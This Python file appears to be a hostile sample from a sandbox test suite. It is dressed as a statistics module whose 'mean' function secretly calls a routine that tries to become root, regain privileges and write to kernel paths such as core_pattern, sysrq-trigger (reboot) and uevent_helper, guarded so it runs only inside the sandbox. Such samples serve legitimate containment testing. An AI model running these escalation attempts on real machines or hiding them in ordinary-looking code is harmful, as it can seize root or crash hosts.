"""Tries every set-uid program, every uid and every capability.

Attacks: W6, C7
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def deed():
    for change in (os.setuid, os.setgid, os.seteuid):
        try:
            change(0)
            print("WON: became root", flush=True)
        except OSError:
            continue
    try:
        os.setgroups([0])
        print("WON: took a group", flush=True)
    except OSError:
        pass
    if libc.prctl(38, 0, 0, 0, 0) == 0 or libc.prctl(39, 0, 0, 0, 0) != 1:
        print("WON: may gain privileges again", flush=True)
    for path, text in (
        ("/proc/self/uid_map", "0 0 1"),
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/sys/kernel/core_pattern", "|/x"),
        ("/proc/sysrq-trigger", "b"),
        ("/proc/self/attr/current", "x"),
        ("/sys/kernel/uevent_helper", "/x"),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
            print("WON: wrote", path, flush=True)
        except OSError:
            continue


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    return 0.0
